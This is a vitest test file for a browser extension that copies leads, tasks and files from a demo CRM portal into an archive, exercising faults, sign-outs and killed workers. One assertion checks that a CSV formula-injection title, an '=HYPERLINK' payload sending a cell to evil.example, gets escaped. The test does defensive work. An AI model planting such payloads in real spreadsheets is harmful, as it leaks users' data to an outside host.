import * as fc from 'fast-check';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { readCopy, type Copy } from '../../../utils/copy/index.ts';
import { Copier } from '../../../utils/copy/worker/index.ts';
import { partNames } from '../../../utils/copy/store.ts';
import { startPortal, type Portal } from '../../portal/index.ts';
import { parseCsv } from '../../support/csv.ts';
import { unzip } from '../../support/unzip.ts';
import { FakeClock } from '../jobs/fake-clock.ts';
import { Browser } from '../portal-client/browser.ts';
import { addressOf } from '../portal-client/memory-sessions.ts';
import { failureOf } from '../portal-client/scripted.ts';
import { MemoryStores } from './memory-stores.ts';

/** Making a copy, against the demo portal: over trouble, sign-outs and killed workers. */

const storage = vi.hoisted(() => ({
  kept: {} as Record<string, unknown>,
  /** Called before anything is kept. */
  beforeSet: () => {},
}));
vi.mock('wxt/browser', () => ({
  browser: {
    storage: {
      local: {
        get: async (key: string | null) =>
          structuredClone(
            key === null ? storage.kept : key in storage.kept ? { [key]: storage.kept[key] } : {},
          ),
        set: async (items: Record<string, unknown>) => {
          storage.beforeSet();
          Object.assign(storage.kept, structuredClone(items));
        },
        remove: async (key: string) => void delete storage.kept[key],
      },
    },
  },
}));

const ilya = 7;
const downloads = '/bitrix/services/main/ajax.php';

let portal: Portal;
let person: Browser;
let stores: MemoryStores;
let done: Copy[];

async function begin(options: Parameters<typeof startPortal>[0]): Promise<void> {
  storage.kept = {};
  storage.beforeSet = () => {};
  done = [];
  stores = new MemoryStores();
  portal = await startPortal({ junk: 20, files: 30, tasks: 12, ...options });
  for (const object of portal.state.disk.objects.values())
    if (object.type === 'file') object.size = 50 + (object.realObjectId % 9);
  person = new Browser(portal, 1);
}

beforeEach(async () => {
  await begin({ leads: 620, hostileTitles: true });
  return () => portal.stop();
});

const address = () => addressOf(portal.origin);

/** @param alive false once the worker is killed: nothing it does counts any more. */
function hire(alive: () => boolean = () => true): Copier {
  return new Copier({
    clientOf: () => person.client,
    stores,
    clock: new FakeClock(),
    version: '1.2.3',
    expectWork: async () => undefined,
    onDone: async (_, copy) => void done.push(copy),
    onFault: (error) => {
      if (alive()) throw error;
    },
  });
}

const state = async () => (await readCopy(address()))?.state;
const until = (wanted: string) =>
  vi.waitFor(async () => expect(await state()).toBe(wanted), { timeout: 20_000, interval: 5 });

async function archive(): Promise<Map<string, Buffer>> {
  const { id = '' } = (await readCopy(address())) ?? {};
  await vi.waitFor(async () =>
    expect((await stores.of(id).list()).toSorted()).toEqual(
      [partNames.archive, ...(done[0]?.kinds ?? []).map((_, n) => partNames.items(n))].toSorted(),
    ),
  );
  const blob = await stores.of(id).read(partNames.archive);
  return unzip(new Uint8Array((await blob?.arrayBuffer()) ?? expect.fail('No archive')));
}

function jsonLines(file: Buffer | undefined): Record<string, unknown>[] {
  const lines = (file?.toString('utf8') ?? '').split('\n');
  expect(lines.pop()).toBe('');
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>);
}

async function itemsOf(copier: Copier, kind: string): Promise<string[]> {
  const ids: string[] = [];
  const { runs } = (await copier.items(address(), kind)) ?? expect.fail('No items');
  for await (const run of runs) ids.push(...run.map(({ id }) => id));
  return ids;
}

const leadIds = () => [...portal.state.leads.keys()].toSorted((a, b) => a - b);

describe('a copy', () => {
  it('holds every record as the portal gave it, a table of them, and every file', async () => {
    const copier = hire();
    person.signIn(ilya);
    expect(
      await copier.start(address(), { scope: 'all', kinds: ['leads', 'tasks', 'files'] }, '7'),
    ).toBe(true);
    await until('done');
    const files = await archive();
    const ids = leadIds();
    const records = jsonLines(files.get('leads/leads.jsonl'));
    expect(records.map(({ id }) => id)).toEqual(ids);
    expect(records.map(({ title }) => title)).toEqual(
      ids.map((id) => portal.state.leads.get(id)?.title),
    );
    const table = files.get('leads/leads.csv')?.toString('utf8') ?? '';
    expect(table.startsWith('\uFEFF')).toBe(true);
    const [head = [], ...rows] = parseCsv(table.slice(1));
    expect(head).toEqual(Object.keys(records[0] ?? {}));
    expect(rows).toHaveLength(ids.length);
    const cells = rows.map((row) => row[head.indexOf('title')] ?? '');
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[0]?.[head.indexOf('contactIds')]).toBe('[]');
    const drive = jsonLines(files.get('files/files.jsonl'));
    const isFile = (path: string) => path.startsWith('files/') && !/^files\/files\.\w+$/.test(path);
    const saved = [...files].filter(([path]) => isFile(path));
    expect(saved).toHaveLength(drive.filter(({ TYPE }) => TYPE === 'file').length);
    for (const [, body] of saved) expect(body.toString()).toMatch(/^file \d+ /);
    const manifest = JSON.parse(files.get('manifest.json')?.toString() ?? '') as object;
    expect(manifest).toMatchObject({
      portal: portal.origin,
      user: { id: '7' },
      poka: '1.2.3',
      kinds: [
        { kind: 'leads', records: ids.length, unreadRecords: null, unreadFiles: [] },
        { kind: 'tasks', scope: 'all' },
        { kind: 'files', scope: 'mine', files: saved.length },
      ],
    });
    expect(done).toHaveLength(1);
    expect(await itemsOf(copier, 'leads')).toEqual(ids.map(String));
    expect(await itemsOf(copier, 'files')).toHaveLength(saved.length);
    expect(portal.state.audit).toEqual([]);
  });

  it('says what could not be had, and does not take it for copied', async () => {
    const copier = hire();
    person.signIn(ilya);
    const struck = (query: string) =>
      portal.faults.add({ kind: 'login', match: ({ query: q }) => q.includes(query), times: 3 });
    const [one, other] = [...portal.state.disk.objects.values()].filter(
      ({ storageId, type, deletedType, name }) =>
        storageId === 5 && type === 'file' && deletedType === 0 && name !== '',
    );
    struck(`fileId=${one?.id}`);
    portal.faults.add({
      kind: 'truncated',
      match: ({ query }) => query.includes(`fileId=${other?.id}`),
      times: 3,
    });
    await copier.start(address(), { scope: 'mine', kinds: ['instances', 'files'] }, '7');
    await until('done');
    expect((await readCopy(address()))?.kinds).toMatchObject([
      { kind: 'files', lost: { broken: 1, notWhole: 1 } },
    ]);
    const copied = await itemsOf(copier, 'files');
    expect(copied).not.toContain(`file:${one?.id}`);
    expect(copied).not.toContain(`file:${other?.id}`);
    const files = await archive();
    const manifest = JSON.parse(files.get('manifest.json')?.toString() ?? '') as {
      kinds: { unreadFiles: { id: string; reason: string }[] }[];
    };
    expect(manifest.kinds[0]?.unreadFiles.map(({ id, reason }) => [id, reason])).toEqual(
      [
        [`file:${one?.id}`, 'broken'],
        [`file:${other?.id}`, 'notWhole'],
      ].toSorted(),
    );
  });

  it('gives up a list over which the portal breaks down, and holds the rest', async () => {
    await hire().start(address(), { scope: 'all', kinds: ['tasks', 'leads'] }, '1');
    portal.faults.add({ kind: 'bad-gateway', match: 'tasks.task.list', times: 1000 });
    await until('done');
    expect((await readCopy(address()))?.kinds).toMatchObject([
      { kind: 'tasks', records: 0, unread: 'broken' },
      { kind: 'leads', records: 620 },
    ]);
  });

  it('is begun by nobody but who was shown', async () => {
    person.signIn(ilya);
    const begun = hire().start(address(), { scope: 'all', kinds: ['leads'] }, '1');
    expect((await failureOf(begun)).kind).toBe('otherUser');
    expect(await readCopy(address())).toBeNull();
  });

  it('holds only what is the person’s own where that was asked for', async () => {
    const copier = hire();
    person.signIn(ilya);
    await copier.start(address(), { scope: 'mine', kinds: ['leads'] }, '7');
    await until('done');
    const own = leadIds().filter((id) => portal.state.leads.get(id)?.assignedById === ilya);
    expect(own.length).toBeGreaterThan(10);
    expect(await itemsOf(copier, 'leads')).toEqual(own.map(String));
  });
});

describe('trouble', () => {
  it('is waited out', async () => {
    portal.faults.add({ kind: 'bad-gateway', match: '/rest/batch', times: 3 });
    portal.faults.add({ kind: 'truncated', match: downloads, times: 2 });
    await hire().start(address(), { scope: 'all', kinds: ['leads', 'files'] }, '1');
    await until('done');
    expect((await readCopy(address()))?.kinds.map(({ lost }) => lost)).toEqual([{}, {}]);
  });

  it('of signing out is waited for, and the copy goes on as the same person only', async () => {
    const copier = hire();
    portal.faults.add({ kind: 'slow', match: downloads, ms: 20, times: 40 });
    await copier.start(address(), { scope: 'all', kinds: ['leads', 'files'] }, '1');
    await vi.waitFor(async () =>
      expect((await readCopy(address()))?.kinds[1]?.files).toBeGreaterThan(2),
    );
    portal.signOut(1);
    await until('waiting');
    expect(await readCopy(address())).toMatchObject({ trouble: 'signedOut' });
    person.signIn(ilya);
    const before = portal.requests.length;
    expect(await copier.wake()).toBe(true);
    await vi.waitFor(async () =>
      expect(await readCopy(address())).toMatchObject({ state: 'waiting', trouble: 'otherUser' }),
    );
    const since = portal.requests.slice(before);
    expect(since.filter(({ query }) => query.includes('download'))).toEqual([]);
    person.signIn(1);
    await vi.waitFor(async () => {
      await copier.wake();
      expect(await state()).toBe('done');
    });
  });

  it('of a full disk is told, and leaves what is there', async () => {
    const copier = hire();
    stores.room = 250_000;
    await copier.start(address(), { scope: 'all', kinds: ['leads'] }, '1');
    await until('failed');
    const failed = await readCopy(address());
    expect(failed).toMatchObject({ trouble: 'diskFull' });
    expect(await copier.wake()).toBe(false);
    stores.room = Infinity;
    await vi.waitFor(async () => expect(await copier.resume(address())).toBe(true));
    await until('done');
    expect(await itemsOf(copier, 'leads')).toEqual(leadIds().map(String));
  });
});

describe('buttons', () => {
  it('stop it, and let it go on from where it was', async () => {
    const copier = hire();
    portal.faults.add({ kind: 'slow', match: downloads, ms: 20, times: 40 });
    await copier.start(address(), { scope: 'all', kinds: ['files'] }, '1');
    expect(await copier.start(address(), { scope: 'all', kinds: ['leads'] }, '1')).toBe(false);
    await vi.waitFor(async () =>
      expect((await readCopy(address()))?.kinds[0]?.files).toBeGreaterThan(1),
    );
    await copier.stop(address());
    expect(await state()).toBe('stopped');
    expect(await copier.wake()).toBe(false);
    const saved = (await readCopy(address()))?.kinds[0]?.files;
    portal.faults.clear();
    expect(await copier.resume(address())).toBe(true);
    await until('done');
    const asked = portal.requests.filter(({ query }) => query.includes('download'));
    const total = (await readCopy(address()))?.kinds[0]?.files ?? 0;
    expect(total).toBeGreaterThan(saved ?? 0);
    // The one under way is asked for again, and no other.
    expect(asked.length).toBeLessThanOrEqual(total + 1);
  });

  it('remove it, and put a new one in its place', async () => {
    const copier = hire();
    await copier.start(address(), { scope: 'all', kinds: ['leads'] }, '1');
    await until('done');
    await vi.waitFor(() => expect(done).toHaveLength(1));
    await copier.start(address(), { scope: 'all', kinds: ['tasks'] }, '1');
    await until('done');
    expect(await stores.list()).toEqual([(await readCopy(address()))?.id]);
    await copier.remove(address());
    expect(await readCopy(address())).toBeNull();
    expect(await stores.list()).toEqual([]);
    expect(await copier.items(address(), 'tasks')).toBeNull();
  });
});

describe('a killed worker', () => {
  it('at any point loses nothing, and nothing is there twice', async () => {
    const kills = fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 6 });
    await fc.assert(
      fc.asyncProperty(kills, async (points) => {
        storage.kept = {};
        done = [];
        stores = new MemoryStores();
        let started = false;
        for (const point of [...points, Infinity]) {
          let left = point;
          let dead = false;
          // From this write on nothing of this worker's is kept: it is gone.
          const count = () => {
            if (--left < 0) dead = true;
            if (dead) throw new Error('Killed');
          };
          stores.beforeWrite = count;
          storage.beforeSet = count;
          const copier = hire(() => !dead);
          const run = started
            ? copier.wake()
            : copier.start(address(), { scope: 'all', kinds: ['leads', 'files'] }, '1');
          await run.catch(() => undefined);
          started = (await readCopy(address())) !== null;
          await vi.waitFor(async () => expect(dead || (await state()) === 'done').toBe(true), {
            timeout: 20_000,
            interval: 1,
          });
          if ((await state()) === 'done') break;
        }
        stores.beforeWrite = () => undefined;
        storage.beforeSet = () => {};
        const copier = hire();
        expect(await itemsOf(copier, 'leads')).toEqual(leadIds().map(String));
        const copied = await itemsOf(copier, 'files');
        expect(new Set(copied).size).toBe(copied.length);
        const live = [...portal.state.disk.objects.values()].filter(
          ({ storageId, type, deletedType }) =>
            storageId === 4 && type === 'file' && deletedType === 0,
        );
        expect(copied).toHaveLength(live.length);
        const { kinds = [] } = (await readCopy(address())) ?? {};
        expect(kinds.map(({ records }) => records)).toEqual([620, live.length + 1]);
        expect(kinds[1]?.files).toBe(live.length);
      }),
      { numRuns: 12 },
    );
  });
});
